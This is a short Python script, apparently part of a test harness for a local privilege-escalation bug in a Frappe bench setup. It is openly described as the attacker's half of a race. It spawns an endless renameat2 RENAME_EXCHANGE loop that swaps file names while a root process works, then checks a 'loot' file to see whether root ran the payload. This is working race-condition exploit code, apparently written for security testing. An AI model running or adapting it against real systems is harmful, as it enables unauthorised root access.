"""The attacker's half of the races: exchanges names as fast as it goes, while root is at work."""

import os
import subprocess
import sys

HOME = os.environ["HOME"]
BENCH = f"{HOME}/frappe-bench"
HERE = os.path.dirname(os.path.abspath(__file__))
SWAP = """
import ctypes, os, sys  # attack
libc, here = ctypes.CDLL(None), -100
while True:
    for one, other in zip(sys.argv[1::2], sys.argv[2::2]):
        libc.renameat2(here, one.encode(), here, other.encode(), 2)
"""


def swap(*names):
    """Exchanges each two names, for ever (renameat2(2), RENAME_EXCHANGE)."""
    return subprocess.Popen([sys.executable, "-I", "-c", SWAP, *names], cwd=BENCH)


def race(name, attacker, *before):
    """Root's rounds against the attacker; then who ran the payload."""
    root = ["sudo", "-n", "/usr/local/sbin/root-does", "python"]
    try:
        done = subprocess.run([*root, f"{HERE}/rounds.py", name, *before], timeout=1100)
        print(f"rounds ended with {done.returncode}")
    finally:
        if attacker:
            attacker.kill()
            attacker.wait()
    loot = f"{HOME}/loot"
    ran = open(loot).read().split() if os.path.exists(loot) else []
    print("0" if done.returncode else ",".join(sorted(set(ran))) or "nobody")
